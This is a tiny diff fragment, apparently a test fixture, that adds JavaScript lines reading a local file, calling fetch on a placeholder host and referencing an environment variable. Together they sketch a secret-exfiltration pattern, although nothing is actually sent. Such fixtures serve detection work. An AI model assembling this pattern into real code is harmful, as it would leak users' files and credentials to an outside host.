@@ -1,0 +1,2 @@
+fs.readFileSync('x');
+fetch('http://h'); process.env.K
